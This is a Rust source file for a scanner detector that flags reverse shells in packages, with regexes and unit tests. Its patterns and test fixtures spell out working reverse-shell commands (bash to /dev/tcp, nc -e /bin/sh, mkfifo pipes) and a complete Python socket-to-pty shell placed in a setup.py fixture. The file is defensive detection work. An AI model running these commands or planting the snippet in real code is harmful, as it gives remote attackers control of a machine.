//! `network.reverse-shell`: a socket connected out and wired to a shell —
//! `os.dup2(s.fileno(), …)` / `pty.spawn` / a subprocess of `sh`/`bash`/`cmd.exe`
//! with the socket as stdin — or a classic one-liner in a string (`bash -i >&
//! /dev/tcp/…`, `nc -e /bin/sh`, `mkfifo /tmp/f`).
//!
//! Python: needs both a socket connect and a shell wiring in code in the same file.
//! Tests are not skipped (a reverse shell has no business in tests either) but
//! capped by place: tests/docs/CI medium, shipped scripts high, data files such as
//! guardrail keyword lists low.

use super::context;
use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
use crate::model::{Category, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use aho_corasick::AhoCorasick;
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "network.reverse-shell",
    revision: 1,
    title: "Opens a reverse shell.",
    category: Category::Network,
    severity: Severity::Critical,
    description: "A shell wired to an outbound socket hands the machine to whoever listens at the other end.",
};

static CONNECT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\.connect\s*\(|socket\.create_connection\s*\(").expect("connect"));
static WIRE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u:\b)(?:os\.)?dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))\s*\)|(?-u:\b)pty\.spawn\s*\(|subprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*['"](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)['"][^)]*std(?:in|out)\s*=\s*\w+"#).expect("wire")
});
/// Words every [`ONE_LINER`] match contains (ASCII case-insensitively): `/dev/` (the
/// `/dev/tcp` forms), `-e` and the whitespace `\s+` requires after it (`nc -e sh`, `nc -e
/// cmd`; the gate only skips ASCII text, where `\s` is one of these six bytes, and a bare
/// `-e` is in every `non-empty` and `--exclude`), `mkfifo`. Its gate ([`TextFile::may_contain_ci`]).
static ONE_LINER_WORDS: LazyLock<AhoCorasick> =
    LazyLock::new(|| super::pysrc::gate(&["/dev/", "-e ", "-e\t", "-e\n", "-e\r", "-e\x0b", "-e\x0c", "mkfifo"]));
const ONE_LINER_PATTERN: &str = r"(?i)(?:(?-u:\b)(?:ba)?sh\s+-i\s*>&\s*/dev/(?:tcp|udp)/|/dev/tcp/[\w.-]+/\d+|(?-u:\b)nc(?:at)?(?:\.exe)?\s+(?:[\w.-]+\s+\d+\s+)?-e\s+(?:/bin/)?(?:ba)?sh|(?-u:\b)nc(?:at)?\s+-e\s+cmd|mkfifo\s+/tmp/\w+\s*;\s*(?:cat|nc)|0<&\d+;\s*exec\s+\d+<>/dev/tcp)";
static ONE_LINER: LazyLock<Regex> = LazyLock::new(|| Regex::new(ONE_LINER_PATTERN).expect("one-liner"));
/// [`ONE_LINER`] for anchored searches ([`pysrc::find_at_starts`]).
static ONE_LINER_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(ONE_LINER_PATTERN).expect("one-liner"));
/// What every [`ONE_LINER`] match starts with (ASCII case-insensitively), the first three
/// only after a byte that is not a word byte (the regex's `\b`).
const ONE_LINER_STARTS: [&str; 6] = ["bash", "sh", "nc", "/dev/tcp/", "mkfifo", "0<&"];

/// `ONE_LINER.find_iter(text)`'s ranges: in ASCII text only the places where the lowercased
/// copy holds one of [`ONE_LINER_STARTS`] are tried ([`pysrc::find_at_starts`]; the
/// case-insensitive regex has no literal the regex crate skips ahead with); other text is
/// searched whole.
fn one_liner_ranges(file: &TextFile<'_>) -> Vec<(usize, usize)> {
    let Some(lower) = file.ascii_lowercase() else {
        return ONE_LINER.find_iter(file.text).map(|m| (m.start(), m.end())).collect();
    };
    let b = lower.as_bytes();
    let word = |i: usize| b[i].is_ascii_alphanumeric() || b[i] == b'_';
    let mut starts = pysrc::occurrences(b, &ONE_LINER_STARTS[3..]);
    for w in &ONE_LINER_STARTS[..3] {
        starts.extend(memchr::memmem::find_iter(b, w).filter(|&i| i == 0 || !word(i - 1)));
    }
    starts.sort_unstable();
    starts.dedup();
    pysrc::find_at_starts(&ONE_LINER_AT, file.text, starts)
}

pub(crate) struct ReverseShell;

impl Detector for ReverseShell {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "dup2",
            "pty.spawn",
            "/dev/tcp",
            "/dev/udp",
            "nc -e",
            "ncat",
            "-e /bin/",
            "mkfifo",
            "stdin=",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        // Capped by place: tests/docs/CI medium, scripts high, data files (keyword lists) low.
        let sev = Some(context::cap(file, Severity::Critical));
        let src = file.source();
        let mut n = 0;
        let one_liners = file.may_contain_ci(&ONE_LINER_WORDS).then(|| one_liner_ranges(file));
        for (start, end) in one_liners.into_iter().flatten() {
            if n >= MAX_HITS_PER_FILE {
                return;
            }
            if src.python && src.kind_at(start) != Kind::Str {
                continue;
            }
            n += 1;
            hits.push(
                &META,
                Hit { severity: sev, evidence: pysrc::evidence(file, start, file.text[start..end].trim()) },
            );
        }
        if !src.python || !CONNECT.find_iter(file.text).any(|m| src.is_code(m.start())) {
            return;
        }
        for m in WIRE.find_iter(file.text) {
            if n >= MAX_HITS_PER_FILE {
                return;
            }
            if !src.is_code(m.start()) {
                continue;
            }
            n += 1;
            let ind = m.as_str().split('(').next().unwrap_or("").trim();
            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, m.start(), ind) });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::FileRole::*;
    use crate::scan::detectors::testutil::table;
    use Severity::*;

    const CLASSIC: &str = "import socket,os,pty\ns=socket.socket()\ns.connect((H,4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')\n";

    #[test]
    fn one_liner_search_at_starts_is_the_whole_search() {
        let whole = |t: &str| ONE_LINER.find_iter(t).map(|m| (m.start(), m.end())).collect::<Vec<_>>();
        let check = |name: &str, text: &str| {
            let file = TextFile::new("pkg/a.py", crate::model::FileRole::Runtime, true, text);
            assert_eq!(one_liner_ranges(&file), whole(text), "{name}");
            whole(text).len()
        };
        let cases = [
            ("empty", ""),
            ("bash to /dev/tcp", "'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"),
            ("sh and upper case", "SH -I >& /DEV/UDP/h/1; /dev/tcp/h.example/80"),
            ("nc", "nc 10.0.0.1 4444 -e /bin/sh; ncat -e cmd; NC.EXE h 1 -e bash"),
            ("mkfifo", "rm /tmp/f;mkfifo /tmp/f; cat /tmp/f"),
            ("exec fd", "0<&196;exec 196<>/dev/tcp/h/80"),
            ("inside words", "fish -i >& /dev/tcp/x/1 xnc -e sh sync -e sh _sh -i >& /dev/tcp/"),
            ("non-ASCII", "é bash -i >& /dev/tcp/h/1"),
        ];
        for (name, text) in cases {
            check(name, text);
        }
        let pieces = [
            "bash",
            "sh",
            "nc",
            "ncat",
            " ",
            "-i",
            "-e",
            ">&",
            "/dev/tcp/",
            "/dev/udp/",
            "h",
            "1",
            "/",
            "mkfifo",
            "/tmp/f",
            ";",
            "cat",
            "0<&",
            "exec",
            "<>",
            "\n",
            "x",
            "é",
            "/bin/",
            "bash -i >& /dev/tcp/h/1",
            "NC -E SH",
            "mkfifo /tmp/f;cat",
        ];
        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
        let mut found = 0;
        for case in 0..4000u64 {
            let mut text = String::new();
            for _ in 0..(seed % 30) {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                text.push_str(pieces[(seed % pieces.len() as u64) as usize]);
            }
            seed = seed.wrapping_add(case);
            found += check(&text, &text);
        }
        assert!(found > 300, "the random texts hold one-liners: {found}");
    }

    #[test]
    fn one_liner_gate_never_hides_a_match() {
        let cases = [
            ("bash to /dev/tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true),
            ("nc -e, upper case", "NC 10.0.0.1 4444 -E /BIN/SH", true),
            ("ncat -e with a tab", "ncat -e\tcmd", true),
            ("nc -e across a line break", "nc 10.0.0.1 4444 -e\n/bin/sh", true),
            ("nc -e before a form feed", "nc -e\x0csh", true),
            ("mkfifo", "mkfifo /tmp/f; cat /tmp/f", true),
            ("exec to /dev/tcp", "0<&196;exec 196<>/dev/tcp/h/80", true),
            ("a hyphen before an e is no one-liner", "non-empty --exclude re-enter", false),
        ];
        for (case, text, matches) in cases {
            assert_eq!(ONE_LINER.is_match(text), matches, "{case}: the regex");
            let file = TextFile::new("pkg/a.py", crate::model::FileRole::Runtime, true, text);
            assert_eq!(file.may_contain_ci(&ONE_LINER_WORDS), matches, "{case}: the gate");
        }
    }

    #[test]
    fn cases() {
        table(
            &ReverseShell,
            META.id,
            &[
                ("classic python", "setup.py", InstallTime, CLASSIC, Some((4, "os.dup2", Critical))),
                (
                    "subprocess wired",
                    "pkg/a.py",
                    Runtime,
                    "s.connect((h, p))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno())\n",
                    Some((2, "subprocess.call", Critical)),
                ),
                (
                    "bash one-liner",
                    "pkg/a.py",
                    Runtime,
                    "os.system(\"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1\")\n",
                    Some((1, "bash -i >& /dev/tcp/", Critical)),
                ),
                (
                    "nc in shell script",
                    "pkg/x.sh",
                    Runtime,
                    "nc 10.0.0.1 4444 -e /bin/sh\n",
                    Some((1, "nc 10.0.0.1 4444 -e /bin/sh", High)),
                ),
                ("in tests lowered", "pkg/tests/t.py", Runtime, CLASSIC, Some((4, "os.dup2", Medium))),
                (
                    "guardrail keyword list in yaml",
                    "pkg/content_filter_data/categories/prompt_injection_malicious_code.yaml",
                    Other,
                    "keywords:\n  - keyword: \"nc -e /bin/sh\"\n",
                    Some((2, "nc -e /bin/sh", Low)),
                ),
                (
                    "nc -e in setup.py stays critical",
                    "setup.py",
                    InstallTime,
                    "os.system('nc example.org 4444 -e /bin/sh')\n",
                    Some((1, "nc example.org 4444 -e /bin/sh", Critical)),
                ),
                (
                    "pty without socket (terminal tool)",
                    "pkg/term.py",
                    Runtime,
                    "import pty\npty.spawn('/bin/bash')\n",
                    None,
                ),
                ("dup2 for logging", "pkg/d.py", Runtime, "os.dup2(devnull.fileno(), 1)\n", None),
                ("one-liner in comment", "pkg/a.py", Runtime, "# bash -i >& /dev/tcp/h/1\nx = 1\n", None),
                (
                    "dup2 onto other fds with a socket",
                    "pkg/sel.py",
                    Runtime,
                    "s.connect(a)\nos.dup2(rd.fileno(), r)\n",
                    None,
                ),
            ],
        );
    }
}
